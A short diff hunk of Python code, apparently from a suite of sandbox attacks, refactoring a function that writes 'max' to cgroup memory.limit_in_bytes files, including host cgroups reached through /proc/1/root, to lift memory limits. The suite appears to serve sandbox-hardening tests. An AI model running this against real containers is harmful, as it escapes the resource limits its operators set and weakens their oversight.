@@ -374,10 +374,10 @@ def cgroup_files() -> str:
         path.write_text("max")
         return f"wrote {path}"
 
-    found = [
-        path for root in ("/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup") for path in Path(root).glob("*/thaw-*/*/memory.limit_in_bytes")
-    ]
-    return any_of([lambda path=path: write(path) for path in [*found, Path("/sys/fs/cgroup/memory/memory.limit_in_bytes")]])
+    groups = Path("/sys/fs/cgroup")
+    seen_by_pid_1 = Path("/proc/1", "root", *groups.parts[1:])
+    found = [path for top in (groups, seen_by_pid_1) for path in top.glob("*/thaw-*/*/memory.limit_in_bytes")]
+    return any_of([lambda path=path: write(path) for path in [*found, groups / "memory" / "memory.limit_in_bytes"]])
 
 
 @attack
